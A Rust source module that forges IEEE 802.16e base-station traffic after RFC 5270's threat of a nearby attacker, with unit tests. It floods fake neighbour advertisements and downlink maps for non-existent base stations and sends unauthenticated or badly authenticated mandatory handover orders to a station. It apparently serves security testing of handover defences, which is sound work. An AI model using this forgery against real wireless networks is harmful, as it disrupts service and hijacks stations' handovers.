//! Somebody near the mobile station who forges what a base station would say (RFC 5270 section 8).

use std::{
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use bytes::Bytes;
use clap::ValueEnum;
use fmip_ctl::{
    link::ieee80216e::{
        air::{BROADCAST, ETHERTYPE, Frame},
        message::{
            Authentication, CMAC_LEN, CmacTuple, DlMap, HMAC_LEN, HmacTuple, Message, MobBshoReq,
            MobNbrAdv, Neighbor, Pdu, Recommendation, Target, cid,
        },
    },
    wire::MacAddr,
};

use super::radio::Radio;

/// What is forged.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Forgery {
    /// MOB_NBR-ADV, each with base stations that nobody has heard of.
    NeighborAdvertisements,
    /// Some base stations that are not there, advertised by MOB_NBR-ADV, and each with the DL-MAP by
    /// which a scan hears it.
    BaseStations,
    /// MOB_BSHO-REQ, without a valid CMAC.
    HandoverRequests,
}

/// How much of it, and in whose name.
#[derive(Clone, Debug)]
pub struct Flood {
    /// What.
    pub forgery: Forgery,
    /// In whose name.
    pub as_base_station: MacAddr,
    /// To whom.
    pub station: MacAddr,
    /// Where the station is to be made to go.
    pub target: MacAddr,
    /// On which connection the station hears orders.
    pub cid: u16,
    /// How many messages.
    pub messages: u32,
    /// Between two of them.
    pub interval: Duration,
}

/// New base stations in one forged MOB_NBR-ADV.
const BASE_STATIONS: u32 = 16;
/// How many messages are made up for at once.
const MADE_UP: u32 = 32;
/// The upper half of their BSIDs.
const OPERATOR: [u8; 3] = [0x02, 0xba, 0xd0];

impl Flood {
    /// Sends all of it from `interface`.
    ///
    /// # Errors
    /// If the interface cannot be opened.
    pub fn send(&self, interface: &str) -> Result<()> {
        // It gives access to no link.
        let radio = Radio::open(interface, ETHERTYPE, "")?;
        let mut random = fastrand::Rng::with_seed(u64::from(self.messages));
        let mut due = Instant::now();
        for number in 0..self.messages {
            let frame = self.frame(number, &mut random)?;
            radio.send(&frame).context("the forged frame is not sent")?;
            let now = Instant::now();
            due = self.next_due(due, now);
            thread::sleep(due.saturating_duration_since(now));
        }
        Ok(())
    }

    /// When the message after the one that was due at `due` is due. Who is woken late makes up for it, by
    /// no more messages at once than a socket has room for.
    fn next_due(&self, due: Instant, now: Instant) -> Instant {
        let earliest = now.checked_sub(self.interval * MADE_UP);
        (due + self.interval).max(earliest.unwrap_or(now))
    }

    fn frame(&self, number: u32, random: &mut fastrand::Rng) -> Result<Bytes> {
        let mut source = self.as_base_station;
        let (destination, pdu) = match self.forgery {
            Forgery::NeighborAdvertisements => (BROADCAST, neighbors(number * BASE_STATIONS)),
            Forgery::BaseStations if number.is_multiple_of(BASE_STATIONS) => {
                (BROADCAST, neighbors(0))
            }
            Forgery::BaseStations => {
                source = forged(number % BASE_STATIONS);
                (BROADCAST, downlink_map(source, number))
            }
            Forgery::HandoverRequests => (self.station, self.order(number, random)),
        };
        let frame = Frame {
            destination,
            source,
            signal_dbm: Some(-40),
            pdu: pdu.encode()?,
        };
        Ok(frame.encode())
    }

    /// An order to go, with no authentication, a wrong one, or one of the wrong kind; now and then on a
    /// connection that is not the station's.
    fn order(&self, number: u32, random: &mut fastrand::Rng) -> Pdu {
        let authentication = match number % 3 {
            0 => None,
            1 => {
                let mut value = [0; CMAC_LEN];
                random.fill(&mut value);
                Some(Authentication::Cmac(CmacTuple {
                    key_sequence: (number / 3 % 16) as u8,
                    bsid: None,
                    packet_number: u32::MAX - number,
                    value,
                }))
            }
            _ => {
                let mut digest = [0; HMAC_LEN];
                random.fill(&mut digest);
                Some(Authentication::Hmac(HmacTuple {
                    key_sequence: 1,
                    digest,
                }))
            }
        };
        Pdu {
            cid: match number % 16 {
                0 => self.cid ^ 1,
                _ => self.cid,
            },
            message: Message::MobBshoReq(MobBshoReq {
                network_assisted: false,
                recommendation: Recommendation {
                    mandatory: true,
                    resource_retain: false,
                    targets: vec![Target::new(self.target)],
                },
                action_time: 0,
                unknown: Vec::new(),
            }),
            authentication,
        }
    }
}

/// A base station that is not there.
fn forged(number: u32) -> MacAddr {
    let [a, b, c] = OPERATOR;
    let [_, d, e, f] = number.to_be_bytes();
    MacAddr([a, b, c, d, e, f])
}

/// What a scan hears of it.
fn downlink_map(bsid: MacAddr, number: u32) -> Pdu {
    Pdu {
        cid: cid::BROADCAST,
        message: Message::DlMap(DlMap {
            frame_duration: DlMap::FRAME_5_MS,
            frame_number: number & 0x00ff_ffff,
            dcd_count: 0,
            bsid,
            symbols: 1,
            allocations: Bytes::new(),
        }),
        authentication: None,
    }
}

/// An advertisement of base stations that are not there, from that one on.
fn neighbors(first: u32) -> Pdu {
    let all = first..first + BASE_STATIONS;
    let neighbors = all.map(|number| Neighbor::new(forged(number)));
    Pdu {
        cid: cid::BROADCAST,
        message: Message::MobNbrAdv(MobNbrAdv {
            operator: Some(OPERATOR),
            change_count: first as u8,
            fragment: 0,
            fragments: 1,
            neighbors: neighbors.collect(),
        }),
        authentication: None,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    const BS: MacAddr = MacAddr([2, 0, 0, 0, 10, 1]);

    fn flood(forgery: Forgery, messages: u32) -> Flood {
        Flood {
            forgery,
            as_base_station: BS,
            station: MacAddr([2, 0, 0, 0, 0, 1]),
            target: MacAddr([2, 0, 0, 0, 10, 2]),
            cid: 7,
            messages,
            interval: Duration::from_millis(1),
        }
    }

    fn pdus(forgery: Forgery, messages: u32) -> Vec<(MacAddr, Pdu)> {
        let flood = flood(forgery, messages);
        let mut random = fastrand::Rng::with_seed(1);
        let frames = (0..messages).map(|number| flood.frame(number, &mut random).unwrap());
        frames
            .map(|octets| {
                let frame = Frame::decode(&octets).unwrap();
                (frame.source, Pdu::decode(&frame.pdu).unwrap().pdu)
            })
            .collect()
    }

    #[test]
    fn who_is_woken_late_makes_up_for_it_but_not_for_all_at_once() {
        let flood = flood(Forgery::BaseStations, 1);
        let (due, interval) = (Instant::now(), flood.interval);
        assert_eq!(flood.next_due(due, due), due + interval);
        let late = due + 10 * interval;
        assert_eq!(flood.next_due(due, late), due + interval);
        let later = due + 100 * interval;
        assert_eq!(flood.next_due(due, later), later - MADE_UP * interval);
    }

    #[test]
    fn every_forged_advertisement_names_others() {
        let mut named = BTreeSet::new();
        for (source, pdu) in pdus(Forgery::NeighborAdvertisements, 100) {
            assert_eq!(source, BS);
            let Message::MobNbrAdv(list) = pdu.message else {
                panic!("{pdu:?}");
            };
            named.extend(list.bsids(BS));
        }
        assert_eq!(named.len(), 100 * BASE_STATIONS as usize);
    }

    #[test]
    fn forged_base_stations_are_named_and_heard() {
        let (mut named, mut heard) = (BTreeSet::new(), BTreeSet::new());
        for (source, pdu) in pdus(Forgery::BaseStations, 32) {
            match pdu.message {
                Message::MobNbrAdv(list) => named.extend(list.bsids(BS)),
                Message::DlMap(map) => {
                    assert_eq!(map.bsid, source);
                    heard.insert(source);
                }
                other => panic!("{other:?}"),
            }
        }
        assert!(heard.is_subset(&named) && heard.len() > 10, "{heard:?}");
    }

    #[test]
    fn forged_orders_are_without_a_valid_cmac_in_every_way() {
        let kinds: BTreeSet<_> = (pdus(Forgery::HandoverRequests, 30).iter())
            .map(|(_, pdu)| match pdu.authentication {
                None => "none",
                Some(Authentication::Cmac(_)) => "cmac",
                Some(Authentication::Hmac(_)) => "hmac",
            })
            .collect();
        assert_eq!(kinds.len(), 3);
    }
}
